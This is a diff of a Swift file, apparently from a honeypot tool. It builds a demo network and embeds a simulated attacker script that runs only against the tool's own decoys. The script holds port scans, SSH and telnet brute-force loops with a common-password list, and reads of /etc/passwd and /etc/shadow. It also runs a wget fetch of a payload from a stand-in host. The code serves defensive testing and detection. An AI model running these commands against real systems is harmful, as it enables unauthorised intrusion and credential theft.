@@ -3,6 +3,7 @@
 // attacker that scans, brute-forces SSH and telnet, logs in and runs a few commands, only ever against the
 // demo's own deckies. Everything is named with the `dnd-` (deckies) or `dnx-` prefix and removed by `tearDown`.
 import ServiceLifecycle
+
 #if canImport(Glibc)
 import Glibc
 #endif
@@ -14,7 +15,7 @@ public struct DemoLAN: Sendable {
     static let ownPrefix = "dnx-"
     public let bridge = "dnx-br"
     public let attackerNamespace = "dnx-atk"
-    public let subnet: String          // "10.213.x"
+    public let subnet: String  // "10.213.x"
     public var gateway: String { subnet + ".1" }
     public var attacker: String { subnet + ".66" }
     public let deckies: [(name: String, ip: String, services: [String])]
@@ -23,8 +24,10 @@ public struct DemoLAN: Sendable {
 
     init(subnet: String) {
         self.subnet = subnet
-        deckies = [("web1", subnet + ".10", ["http", "ssh"]), ("files1", subnet + ".11", ["ftp", "telnet", "ssh"]),
-                   ("db1", subnet + ".12", ["mysql", "redis", "ssh"])]
+        deckies = [
+            ("web1", subnet + ".10", ["http", "ssh"]), ("files1", subnet + ".11", ["ftp", "telnet", "ssh"]),
+            ("db1", subnet + ".12", ["mysql", "redis", "ssh"]),
+        ]
     }
 
     /// The deploy file for the three deckies (spec §12.6 dialect).
@@ -40,8 +43,10 @@ public struct DemoLAN: Sendable {
         removeLeftovers()
         let used = (runProgram(["ip", "-4", "-o", "route", "show", "table", "all"]).output)
         let addrs = (runProgram(["ip", "-4", "-o", "addr", "show"]).output)
-        guard let net = ["10.213.77", "10.213.78", "10.213.79", "172.30.213", "192.168.213"]
-            .first(where: { !used.contains($0 + ".") && !addrs.contains($0 + ".") }) else {
+        guard
+            let net = ["10.213.77", "10.213.78", "10.213.79", "172.30.213", "192.168.213"]
+                .first(where: { !used.contains($0 + ".") && !addrs.contains($0 + ".") })
+        else {
             throw Failure(description: "demo: no free private /24 for the test LAN")
         }
         let lan = DemoLAN(subnet: net)
@@ -104,27 +109,27 @@ public struct DemoLAN: Sendable {
     public var attackScript: String {
         let (a, b, c) = (deckies[0].ip, deckies[1].ip, deckies[2].ip)
         return """
-        have() { command -v "$1" >/dev/null 2>&1; }
-        ssho="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o LogLevel=ERROR"
-        scan() { if have nmap; then nmap -sS -Pn -n --max-retries 1 -p 21-23,25,80,443,1883,3306,6379 "$1" >/dev/null 2>&1
-                 else for p in 21 22 23 80 3306 6379; do (exec 3<>/dev/tcp/$1/$p) 2>/dev/null; done; fi; }
-        echo "attacker: port scan of \(a)"; scan \(a); sleep 1
-        echo "attacker: SSH brute force on \(a)"
-        if have sshpass; then for pw in 123456 password root toor admin; do
-          sshpass -p "$pw" ssh $ssho root@\(a) 'uname -a; id; cat /etc/passwd; wget http://203.0.113.7/x.sh' >/dev/null 2>&1 && break
-        done; fi
-        have curl && curl -s -m 5 -d 'username=admin&password=admin' http://\(a)/login >/dev/null
-        sleep 1
-        echo "attacker: port scan of \(b)"; scan \(b); sleep 1
-        echo "attacker: telnet brute force on \(b)"
-        if have telnet; then (sleep 1; echo root; sleep 0.5; echo 123456; sleep 3; echo root; sleep 0.5; echo admin; sleep 1
-          echo 'uname -a'; sleep 0.5; echo 'cat /etc/shadow'; sleep 0.5; echo exit; sleep 1) | timeout 20 telnet \(b) >/dev/null 2>&1; fi
-        sleep 1
-        echo "attacker: port scan of \(c)"; scan \(c); sleep 1
-        have redis-cli && timeout 5 redis-cli -h \(c) INFO >/dev/null 2>&1
-        have mysql && timeout 5 mysql -h \(c) -u root -proot -e 'SHOW DATABASES' >/dev/null 2>&1
-        echo "attacker: done"
-        """
+            have() { command -v "$1" >/dev/null 2>&1; }
+            ssho="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o LogLevel=ERROR"
+            scan() { if have nmap; then nmap -sS -Pn -n --max-retries 1 -p 21-23,25,80,443,1883,3306,6379 "$1" >/dev/null 2>&1
+                     else for p in 21 22 23 80 3306 6379; do (exec 3<>/dev/tcp/$1/$p) 2>/dev/null; done; fi; }
+            echo "attacker: port scan of \(a)"; scan \(a); sleep 1
+            echo "attacker: SSH brute force on \(a)"
+            if have sshpass; then for pw in 123456 password root toor admin; do
+              sshpass -p "$pw" ssh $ssho root@\(a) 'uname -a; id; cat /etc/passwd; wget http://203.0.113.7/x.sh' >/dev/null 2>&1 && break
+            done; fi
+            have curl && curl -s -m 5 -d 'username=admin&password=admin' http://\(a)/login >/dev/null
+            sleep 1
+            echo "attacker: port scan of \(b)"; scan \(b); sleep 1
+            echo "attacker: telnet brute force on \(b)"
+            if have telnet; then (sleep 1; echo root; sleep 0.5; echo 123456; sleep 3; echo root; sleep 0.5; echo admin; sleep 1
+              echo 'uname -a'; sleep 0.5; echo 'cat /etc/shadow'; sleep 0.5; echo exit; sleep 1) | timeout 20 telnet \(b) >/dev/null 2>&1; fi
+            sleep 1
+            echo "attacker: port scan of \(c)"; scan \(c); sleep 1
+            have redis-cli && timeout 5 redis-cli -h \(c) INFO >/dev/null 2>&1
+            have mysql && timeout 5 mysql -h \(c) -u root -proot -e 'SHOW DATABASES' >/dev/null 2>&1
+            echo "attacker: done"
+            """
     }
 }
 
@@ -143,8 +148,11 @@ public struct DemoAttackerService: Service {
         let log = ProcessLog("demo")
         // The decoys pick the deckies up within their poll; wait until the first one answers on SSH.
         for _ in 0..<60 {
-            let r: (status: Int32, output: String)? = runProgram(["ip", "netns", "exec", lan.attackerNamespace, "bash", "-c",
-                                         "exec 3<>/dev/tcp/\(lan.deckies[0].ip)/22"], captureStderr: true)
+            let r: (status: Int32, output: String)? = runProgram(
+                [
+                    "ip", "netns", "exec", lan.attackerNamespace, "bash", "-c",
+                    "exec 3<>/dev/tcp/\(lan.deckies[0].ip)/22",
+                ], captureStderr: true)
             if r?.status == 0 { break }
             try await Task.sleep(nanoseconds: 500_000_000)
             if Task.isCancelled { return }
@@ -162,7 +170,9 @@ public struct DemoAttackerService: Service {
         // Report the scored attacker as soon as the profiler has folded the hops.
         for _ in 0..<60 {
             if let a = try? store.attackers(limit: 10, offset: 0).first(where: { $0.ip == lan.attacker }), a.deckyCount >= 2 {
-                stdoutLine("decnet up: attacker \(a.ip) scored \(Int(a.score)), \(a.deckyCount) deckies, traversal \(a.isTraversal ? "yes" : "no"), \(a.eventCount) events")
+                stdoutLine(
+                    "decnet up: attacker \(a.ip) scored \(Int(a.score)), \(a.deckyCount) deckies, traversal \(a.isTraversal ? "yes" : "no"), \(a.eventCount) events"
+                )
                 break
             }
             try? await Task.sleep(nanoseconds: 1_000_000_000)
